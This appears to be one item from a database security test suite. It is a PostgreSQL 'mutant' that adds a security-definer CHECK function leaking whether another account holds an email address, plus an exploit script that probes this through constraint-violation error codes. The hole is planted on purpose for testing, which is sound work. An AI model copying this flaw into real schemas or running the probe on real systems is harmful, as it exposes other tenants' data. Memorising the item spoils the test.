-- mutant: A CHECK asks a definer function whether anybody has that address
-- base: crm
-- family: unique
-- leaks: that another account has this value
create function crm_private.address_is_free(address text) returns boolean
language sql stable security definer set search_path = ''
as $$ select not exists (select from crm.contacts c where c.email = address) $$;
grant execute on function crm_private.address_is_free(text) to authenticated;
alter table crm.contacts add constraint contacts_email_free check (crm_private.address_is_free(email)) not valid;

-- exploit as authenticated claims {"sub": "{{user_a}}", "role": "authenticated"}
do $$
begin
  insert into crm.contacts (account_id, full_name, email) values ('{{a}}', 'Somebody', 'canary-globex@example.com');
  raise exception 'It was let through' using errcode = 'P0002';
exception
  when integrity_constraint_violation then
    perform set_config('exploit.seen', sqlstate, true);
  when no_data_found then
    null;
end
$$;
select told from current_setting('exploit.seen', true) as told where told like '23%';
